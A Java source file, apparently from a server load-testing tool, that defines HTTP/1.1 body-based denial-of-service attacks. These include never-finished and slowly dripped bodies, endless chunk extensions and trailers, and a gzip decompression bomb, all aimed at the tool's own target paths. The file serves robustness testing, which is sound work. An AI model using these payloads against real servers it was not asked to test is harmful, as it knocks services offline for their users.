package dev.medley.loadtest.attack;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.function.Supplier;

/** Attacks over HTTP/1.1 by bodies. */
final class Http1Bodies {

    private static final int LENGTH = 1 << 20;
    private static final String BEGIN = "{\"a\":\"";
    private static final String LONG = "Content-Length: " + LENGTH + "\r\n";
    private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";

    private Http1Bodies() {}

    static List<Attack> all() {
        return List.of(
                Attack.of(
                        "h1-bodies-unended",
                        "bodies of 1 MiB whose last byte never comes",
                        Repeated.once(
                                post(LONG) + BEGIN + "x".repeat(LENGTH - BEGIN.length() - 1),
                                Outgoing.Afterwards.GO_ON)),
                Attack.of(
                        "h1-body-drip",
                        "bodies of which a byte comes each 100 ms",
                        Repeated.dripping(post(LONG), "x", Duration.ofMillis(100))),
                Attack.of(
                        "h1-body-unread",
                        "bodies that no mashup reads",
                        Repeated.dripping(
                                "POST " + Targets.WAIT + " HTTP/1.1\r\n" + Http1Heads.HOST + LONG + "\r\n",
                                "x".repeat(1_000),
                                Duration.ofMillis(100))),
                Attack.of(
                        "h1-expect",
                        "requests with Expect: 100-continue, and no body",
                        Repeated.once(post(LONG, "Expect: 100-continue\r\n"), Outgoing.Afterwards.GO_ON)),
                Attack.of("h1-chunks-of-one", "bodies in chunks of one byte", Repeated.of(post(CHUNKED), "1\r\n \r\n")),
                Attack.of(
                        "h1-chunk-extensions",
                        "an extension of a chunk without end",
                        Repeated.of(post(CHUNKED) + "1;x=", "y".repeat(8_000))),
                Attack.of("h1-trailers", "trailers without end", Repeated.of(post(CHUNKED) + "0\r\n", "X: y\r\n")),
                Attack.of("h1-gzip-bomb", "bodies of 10 KB that are 10 MB, coded by gzip", bomb()));
    }

    private static Supplier<Script> bomb() {
        byte[] bytes = GzipBomb.bytes();
        return Repeated.of(
                "",
                post("Content-Encoding: gzip\r\n", "Content-Length: " + bytes.length + "\r\n")
                        + new String(bytes, StandardCharsets.ISO_8859_1));
    }

    private static String post(String... fields) {
        return "POST " + Targets.STORE + " HTTP/1.1\r\n" + Http1Heads.HOST + "Content-Type: application/json\r\n"
                + String.join("", fields) + "\r\n";
    }
}
